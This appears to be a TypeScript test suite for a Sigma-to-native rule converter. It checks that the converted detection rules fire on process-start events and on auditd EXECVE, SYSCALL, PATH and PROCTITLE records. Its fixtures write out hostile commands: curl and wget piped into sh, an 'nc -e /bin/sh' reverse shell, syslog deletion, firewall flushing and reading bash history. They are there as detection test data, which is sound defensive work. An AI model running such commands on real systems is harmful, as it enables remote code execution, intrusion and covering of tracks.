import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Alert, TwEvent } from '../src/event.js';
import { Detector } from '../src/rules/engine.js';
import { loadRules } from '../src/rules/loader.js';
import { createDecoder } from '../src/rules/decoders/index.js';
import { ROOT, runCli, tempDir, type RunResult } from './helpers.js';
import { lineToEvent } from './decoders-line.js';
import { ev, T0 } from './rules/helpers.js';

const FIXTURES = join(ROOT, 'test/fixtures/sigma');
const tmp = tempDir('tw-sigma-');
after(() => tmp.cleanup());

let result: RunResult;
let strict: RunResult;
let det: Detector;
before(async () => {
  result = await runCli(['sigma', 'convert', FIXTURES, '--out', tmp.dir]);
  strict = await runCli(['sigma', 'convert', FIXTURES, '--out', join(tmp.dir, 'strict'), '--strict']);
  det = new Detector(loadRules([tmp.dir]));
});

const fired = (e: TwEvent): string[] => {
  const out: Alert[] = [];
  det.process(e, out);
  return out.map((a) => a.rule.id);
};
/** An ECS process start, as any shipper writes one. */
const cmd = (command_line: string, extra: Record<string, unknown> = {}) =>
  ev(T0, { 'event.category': ['process'], 'event.type': ['start'], 'process.command_line': command_line, ...extra });
/** auditd lines (audisp-syslog's format) through the real parser and auditd decoder: the events they make, in order. */
const audit = (...records: string[]): TwEvent[] => {
  const d = createDecoder();
  return records.map((r) => {
    const e = lineToEvent(`Mar  3 10:00:00 web1 audisp-syslog: ${r}`);
    assert.equal(d.decode(e), true, r);
    return e;
  });
};
const hex = (s: string) => Buffer.from(s).toString('hex').toUpperCase();
/** An EXECVE record as auditd writes it: arguments quoted, or hex when they hold a blank, quote or control character. */
const execveRecord = (serial: number, args: string[]) =>
  `type=EXECVE msg=audit(1709460000.100:${serial}): argc=${args.length} ${args.map((a, i) => `a${i}=${/[\s"'\x00-\x1f\x7f-\xff]/.test(a) ? hex(a) : `"${a}"`}`).join(' ')}`;
const execve = (args: string[]) => audit(execveRecord(42, args))[0];
const firedAll = (evs: TwEvent[]) => evs.flatMap(fired);
const ID = (n: number) => `6f0d8a52-6c1e-4d0b-9d7a-3e5b2a91c${String(n).padStart(3, '0')}`;

describe('rules > sigma convert > reporting', () => {
  it('converts what it can, lists every rule it cannot with the reason, and exits 0 unless --strict', () => {
    assert.equal(result.code, 0, result.stderr);
    assert.equal(strict.code, 1, '--strict: a rule not converted is an error');
    assert.equal(strict.stderr, result.stderr.replaceAll(tmp.dir, join(tmp.dir, 'strict')), 'the same report either way');
    const not = (file: string, reason: RegExp) => assert.match(result.stderr, new RegExp(`NOT converted .*${file}: .*${reason.source}`));
    not('windows_process.yml', /product "windows" is not supported/);
    not('aggregation.yml', /aggregation/);
    not('base64offset.yml', /modifier base64offset is not supported/);
    not('file_event.yml', /category "file_event" is not supported/);
    not('unsafe_regex.yml', /nested quantifier/);
    assert.equal(result.stderr.match(/^NOT converted /gm)?.length, 5);
    assert.match(result.stderr, /13 converted, 5 not converted/);
  });

  it('keeps the Sigma id, title, level and ATT&CK tags', () => {
    const rule = det.rules.find((r) => r.id === ID(1))!;
    assert.equal(rule.name, 'Syslog File Removed or Emptied');
    assert.equal(rule.severity, 'high');
    assert.deepEqual(rule.techniques, ['T1070.002']);
    assert.ok(rule.tags.includes('attack.defense-evasion'));
    assert.equal(det.rules.find((r) => r.id === ID(7))!.severity, 'low', 'informational -> low');
    assert.match(readFileSync(join(tmp.dir, 'proc_creation_lnx_clear_syslog.yaml'), 'utf8'), /^# Converted from Sigma/);
  });
});

describe('rules > sigma convert > converted rules match', () => {
  it('process_creation contains, case-insensitively, only on process starts', () => {
    assert.deepEqual(fired(cmd('/usr/bin/RM -F /var/log/syslog')), [ID(1)]);
    assert.deepEqual(fired(cmd('/usr/bin/tail /var/log/syslog')), []);
    assert.deepEqual(fired(ev(T0, { 'process.command_line': 'rm /var/log/syslog' })), [], 'no event.category/type');
    assert.deepEqual(fired(cmd('rm /var/log/syslog', { 'event.type': ['end'] })), [], 'a process end is not a start');
    assert.deepEqual(fired(cmd('rm /var/log/syslog', { 'event.category': 'process', 'event.type': 'start' })), [ID(1)], 'ECS arrays written as plain strings');
    assert.deepEqual(fired(cmd('rm /var/log/syslog', { 'event.category': ['process', 'intrusion_detection'], 'event.type': ['start', 'denied'] })), [ID(1)], 'any element of the arrays');
  });
  it('and of two selections, a list of maps is an or, endswith', () => {
    assert.deepEqual(fired(cmd('sh -c echo aGk= | base64 -d | bash')), [ID(2)]);
    assert.deepEqual(fired(cmd('sh -c echo aGk= | base64 -d | bash -s x')), [ID(2)]);
    assert.deepEqual(fired(cmd('base64 -d /tmp/x')), []);
  });
  it('not ( … or … ) with re, endswith and a User filter', () => {
    const web = { 'process.parent.executable': '/usr/sbin/nginx', 'process.executable': '/bin/sh' };
    assert.deepEqual(fired(cmd('/bin/sh -c id', web)), [ID(3)]);
    assert.deepEqual(fired(cmd('/bin/sh -c /usr/local/bin/healthcheck.sh', web)), []);
    assert.deepEqual(fired(cmd('/bin/sh -c id', { ...web, 'user.name': 'monitor' })), []);
  });
  it('all of selection_* with windash', () => {
    assert.deepEqual(fired(cmd('/usr/sbin/iptables -F', { 'process.executable': '/usr/sbin/iptables' })), [ID(4)]);
    assert.deepEqual(fired(cmd('/usr/sbin/iptables /F', { 'process.executable': '/usr/sbin/iptables' })), [ID(4)]);
    assert.deepEqual(fired(cmd('/usr/sbin/iptables -L', { 'process.executable': '/usr/sbin/iptables' })), []);
  });
  it('auditd EXECVE a0…aN, 1 of selection_*', () => {
    assert.deepEqual(fired(execve(['tcpdump', '-c', '100', '-i', 'eth0'])), [ID(5)]);
    assert.deepEqual(fired(execve(['tshark', '-c', '5', '-i'])), [ID(5)]);
    assert.deepEqual(fired(execve(['tcpdump', '-r', 'x.pcap'])), []);
  });
  it('auditd EXECVE arguments written in hex are matched decoded', () => {
    const line = execveRecord(43, ['bash', '-c', 'curl -s http://198.51.100.7/x | sh']);
    assert.match(line, / a2=6375726C20/, 'the argument with blanks is hex in the record');
    assert.deepEqual(fired(audit(line)[0]), [ID(12)]);
    assert.deepEqual(fired(execve(['bash', '-c', 'curl -s -o /tmp/x http://198.51.100.7/x'])), [], 'no pipe into sh');
  });
  it('auditd SYSCALL fields (exe, key), and a filter on key', () => {
    const sc = (exe: string, key: string) =>
      `type=SYSCALL msg=audit(1709460000.200:50): arch=c000003e syscall=59 success=yes exit=0 a0=55d5f9c0e2a0 a1=55d5f9c0e300 a2=55d5f9c0e318 a3=0 items=2 ppid=900 pid=901 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="x" exe="${exe}" key="${key}"`;
    assert.deepEqual(fired(audit(sc('/tmp/.x/miner', 'exec'))[0]), [ID(8)]);
    assert.deepEqual(fired(audit(sc('/usr/bin/ls', 'exec'))[0]), []);
    assert.deepEqual(fired(audit(sc('/tmp/build/cc1', 'ci_build'))[0]), [], 'filtered on key');
  });
  it('auditd syscall by name: from the x86_64 number in a raw record, or the enriched SYSCALL=', () => {
    const raw = 'type=SYSCALL msg=audit(1709460000.300:60): arch=c000003e syscall=259 success=yes exit=0 a0=ffffff9c a1=7ffc3b1e2f10 a2=11b6 a3=0 items=2 ppid=900 pid=905 auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=3 comm="mkfifo" exe="/usr/bin/mkfifo" key=(null)';
    assert.deepEqual(fired(audit(raw)[0]), [ID(9)]);
    const enriched = 'type=SYSCALL msg=audit(1709460000.300:61): arch=c00000b7 syscall=33 success=yes exit=0 a0=ffffff9c a1=ffffd1e2 a2=11b6 a3=0 items=2 ppid=900 pid=906 auid=1000 uid=0 comm="mknod" exe="/usr/bin/mknod" key=(null)\x1dARCH=aarch64 SYSCALL=mknodat AUID="alice" UID="root"';
    assert.deepEqual(fired(audit(enriched)[0]), [ID(9)]);
    assert.deepEqual(fired(audit(raw.replace('syscall=259', 'syscall=257'))[0]), [], 'openat');
  });
  it('auditd PATH, PROCTITLE (hex, NUL-separated argv) and SERVICE_STOP (fields inside msg=\'…\') records', () => {
    const path = (name: string, nametype: string) =>
      `type=PATH msg=audit(1709460000.400:70): item=1 name="${name}" inode=1835 dev=fd:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=${nametype} cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0`;
    assert.deepEqual(fired(audit(path('/etc/ld.so.preload', 'CREATE'))[0]), [ID(10)]);
    assert.deepEqual(fired(audit(path('/etc/ld.so.preload', 'PARENT'))[0]), []);
    assert.deepEqual(fired(audit(path('/etc/ld.so.conf', 'NORMAL'))[0]), []);
    const title = (argv: string[]) => `type=PROCTITLE msg=audit(1709460000.500:80): proctitle=${hex(argv.join('\0'))}`;
    assert.deepEqual(fired(audit(title(['nc', '-e', '/bin/sh', '198.51.100.7', '4444']))[0]), [ID(11)]);
    assert.deepEqual(fired(audit(title(['nc', '-z', '198.51.100.7', '22']))[0]), []);
    const stop = (unit: string) =>
      `type=SERVICE_STOP msg=audit(1709460000.600:90): pid=1 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='unit=${unit} comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success'`;
    assert.deepEqual(fired(audit(stop('firewalld'))[0]), [ID(101)]);
    assert.deepEqual(fired(audit(stop('cron'))[0]), []);
  });
  it('one execve as auditd writes it (SYSCALL, EXECVE, CWD, PATH, PROCTITLE) fires each rule once', () => {
    const args = ['bash', '-c', 'wget -qO- http://198.51.100.7/i | sh'];
    const evs = audit(
      'type=SYSCALL msg=audit(1709460000.700:95): arch=c000003e syscall=59 success=yes exit=0 a0=5581 a1=5582 a2=5583 a3=0 items=2 ppid=700 pid=701 auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=3 comm="bash" exe="/usr/bin/bash" key="exec"',
      execveRecord(95, args),
      'type=CWD msg=audit(1709460000.700:95): cwd="/root"',
      'type=PATH msg=audit(1709460000.700:95): item=0 name="/usr/bin/bash" inode=12 dev=fd:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL',
      `type=PROCTITLE msg=audit(1709460000.700:95): proctitle=${hex(args.join('\0'))}`,
    );
    assert.deepEqual(firedAll(evs), [ID(12)]);
  });
  it('auditd keywords on the message and the decoded arguments', () => {
    assert.deepEqual(fired(execve(['cat', '/root/.bash_history'])), [ID(6)]);
    const hexed = execve(['cp', '/root/old .bash_history', '/tmp/h']);
    assert.doesNotMatch(hexed.message!, /bash_history/, 'the argument with a blank is hex in the record');
    assert.deepEqual(fired(hexed), [ID(6)], 'keywords also see the decoded arguments');
    assert.deepEqual(fired(execve(['cat', '/etc/hosts'])), []);
  });
  it('service keyword rules with wildcards, limited to the service process', () => {
    const sshd = (m: string, name = 'sshd') => ev(T0, { message: m, 'process.name': name });
    assert.deepEqual(fired(sshd('Did not receive identification string from 192.0.2.1 port 4000')), [ID(7)]);
    assert.deepEqual(fired(sshd('Bad protocol version identification \'GET / HTTP/1.1\' from 192.0.2.1', 'sshd-session')), [ID(7)]);
    assert.deepEqual(fired(sshd('Did not receive identification string from 192.0.2.1 port 4000', 'nginx')), []);
  });
});
